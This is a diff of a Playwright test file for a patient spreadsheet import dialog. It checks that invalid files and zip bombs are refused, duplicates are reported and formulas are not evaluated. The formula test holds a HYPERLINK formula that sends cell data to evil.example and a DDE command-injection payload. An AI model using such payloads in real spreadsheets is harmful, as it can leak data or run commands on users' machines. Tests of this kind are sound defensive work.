@@ -33,41 +33,38 @@ async function namesOf(person: Person): Promise<string[]> {
 const countOf = (dialog: Locator, state: string) =>
   dialog.getByRole('group', { name: '按结果查看' }).getByRole('button', { name: new RegExp(`^${state}`) });
 
-test('what is no workbook is refused, each with its reason, and nothing is saved', async ({ console, person }) => {
+test('an invalid file is refused with the reason, and nothing is saved', async ({ console, person }) => {
   const dialog = await openImport(console);
-  const said = dialog.getByRole('alert');
+  const problem = dialog.getByRole('alert');
   const file = dialog.getByLabel('选择要导入的文件');
 
   await send(dialog, Buffer.from('姓名,手机号\n张三,13900000000'), '患者.csv');
-  await expect(said).toHaveText('请选择 Excel 文件（.xlsx）');
+  await expect(problem).toHaveText('请选择 Excel 文件（.xlsx）');
   await send(dialog, Buffer.from('旧'), '患者.xls');
-  await expect(said).toHaveText(/^这是旧版 Excel 文件/);
+  await expect(problem).toHaveText(/^这是旧版 Excel 文件/);
   await send(dialog, Buffer.alloc(0));
-  await expect(said).toHaveText('文件是空的，请重新选择');
+  await expect(problem).toHaveText('文件是空的，请重新选择');
   await send(dialog, Buffer.alloc(6 * 1024 * 1024));
-  await expect(said).toHaveText('文件超过 5 MB，请分成几个文件导入');
+  await expect(problem).toHaveText('文件超过 5 MB，请分成几个文件导入');
   await send(dialog, Buffer.from('姓名,手机号\n张三,13900000000'));
-  await expect(said).toHaveText('不是可读取的 Excel 文件（.xlsx）');
+  await expect(problem).toHaveText('不是可读取的 Excel 文件（.xlsx）');
   await send(dialog, zipBomb());
-  await expect(said).toHaveText('文件内容过大，请拆分后再导入');
+  await expect(problem).toHaveText('文件内容过大，请拆分后再导入');
   await expect(file).toBeEnabled();
 
-  // What lies about its size is found out while it is read.
-  await send(dialog, zipBomb({ isLying: true }));
-  await expect(said).toContainText('不是可读取的 Excel 文件（.xlsx）');
+  // A false size is detected while unpacking.
+  await send(dialog, zipBomb({ hasFalseSize: true }));
+  await expect(problem).toContainText('不是可读取的 Excel 文件（.xlsx）');
   await dialog.getByRole('button', { name: '重试' }).click();
   const { 姓名: _, ...nameless } = right;
   await send(dialog, sheetOf([{ ...nameless, 血型: 'A' }]));
-  await expect(said).toContainText('缺少的列：姓名；无法识别的列：血型');
+  await expect(problem).toContainText('缺少的列：姓名；无法识别的列：血型');
   await dialog.getByRole('button', { name: '重试' }).click();
   await expect(dialog.getByText('点击选择文件，或把文件拖到这里')).toBeVisible();
   expect(await namesOf(person)).toEqual([]);
 });
 
-test('a formula is never reckoned: its last value is taken, and what it says stays out', async ({
-  console,
-  person,
-}) => {
+test('formulas are not evaluated: their cached values are imported', async ({ console, person }) => {
   const dialog = await openImport(console);
   const formula = 'HYPERLINK("http://evil.example/"&A1,"谢公式")';
   await send(dialog, sheetOf([{ ...right, 姓名: { formula, value: '谢公式' }, 诊断: "=cmd|' /C calc'!A0" }]));
@@ -107,7 +104,7 @@ test('errors are listed row by row before anything is saved', { tag: ['@core', '
   await expect(dialog.getByText('有错误的 2 行不会导入，改好后可以再次上传')).toBeVisible();
   expect(await namesOf(person)).toEqual(['谢认识']);
 
-  await test.step('closed, and gone on with', async () => {
+  await test.step('resumed after closing', async () => {
     await page.keyboard.press('Escape');
     await page.getByRole('dialog', { name: '导入还没有完成' }).getByRole('button', { name: '先关闭' }).click();
     await expect(dialog).toHaveCount(0);
@@ -115,7 +112,7 @@ test('errors are listed row by row before anything is saved', { tag: ['@core', '
     await expect(countOf(dialog, '有错误')).toHaveText('有错误 2');
   });
 
-  await test.step('a look-alike only with a reason', async () => {
+  await test.step('a look-alike is imported only with a reason', async () => {
     await dialog.getByRole('checkbox', { name: /^同时导入 1 行疑似重复的/ }).check();
     await dialog.getByRole('button', { name: '导入 2 位患者' }).click();
     await expect(dialog.getByText('请填写原因')).toBeVisible();
@@ -127,7 +124,7 @@ test('errors are listed row by row before anything is saved', { tag: ['@core', '
   });
 });
 
-test('a good sheet is saved with its progress, once for a double click', async ({ console, page, person }) => {
+test('a valid sheet is imported with progress, once for a double click', async ({ console, page, person }) => {
   const rows = ['甲', '乙', '丙'].map((letter, at) => ({ ...right, 姓名: `谢成${letter}`, 手机号: `1390000246${at}` }));
   const dialog = await openImport(console);
   await send(dialog, sheetOf(rows));
@@ -148,7 +145,7 @@ test('a good sheet is saved with its progress, once for a double click', async (
   await expect(console.pane.locator('.person-name')).toHaveCount(3);
   expect(await namesOf(person)).toEqual(rows.map(({ 姓名 }) => 姓名).sort());
 
-  await test.step('the same sheet once more is found out', async () => {
+  await test.step('the same sheet again is reported as duplicate', async () => {
     await console.pane.getByRole('button', { name: '导入', exact: true }).click();
     await send(dialog, sheetOf(rows));
     await expect(countOf(dialog, '疑似重复')).toHaveText('疑似重复 3');
@@ -156,13 +153,13 @@ test('a good sheet is saved with its progress, once for a double click', async (
   });
 });
 
-test('the template has the right columns and nobody in it', async ({ console, page }) => {
+test('the template has the right columns and no patient', async ({ console, page }) => {
   const dialog = await openImport(console);
   const saved = page.waitForEvent('download');
   await dialog.getByRole('button', { name: '下载模板' }).click();
   const file = await saved;
   expect(file.suggestedFilename()).toBe('患者导入模板.xlsx');
-  // Its columns are right, and its example is no patient.
+  // Its columns are accepted, and its example row is not imported.
   await send(dialog, await readFile(await file.path()), file.suggestedFilename());
   await expect(dialog.getByRole('alert')).toContainText('表格中没有可导入的行');
 });
